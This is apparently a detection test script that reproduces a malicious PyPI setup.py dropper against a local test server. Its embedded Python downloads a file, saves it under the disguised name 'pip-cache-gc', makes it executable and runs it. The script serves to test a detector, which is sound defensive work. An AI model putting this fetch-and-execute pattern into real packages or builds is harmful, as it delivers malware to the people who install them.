#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.006 Command and Scripting Interpreter: Python
# reproduces: malicious PyPI setup.py droppers that open their destination before they fetch (`with open(dest, "wb") as f: f.write(urlopen(URL).read())`), then chmod and run it through subprocess
# expect: dropped-file-executed ^pip-cache-gc$
# exec-borne: yes
#
# The file is opened for writing before the interpreter reaches the
# network: only the descriptor it still holds when it connects says the
# download went there.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

build_dir=$(mktemp -d "${BW_ATTACK_TMP:?}/pip-build-XXXXXX")
trap 'rm -rf "$build_dir"' EXIT

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" "$build_dir/pip-cache-gc" <<'PY'
import os
import subprocess
import sys
import urllib.request

url, dest = sys.argv[1], sys.argv[2]
with open(dest, "wb") as out:
    out.write(urllib.request.urlopen(url).read())
os.chmod(dest, 0o755)
subprocess.run([dest], check=False)
PY
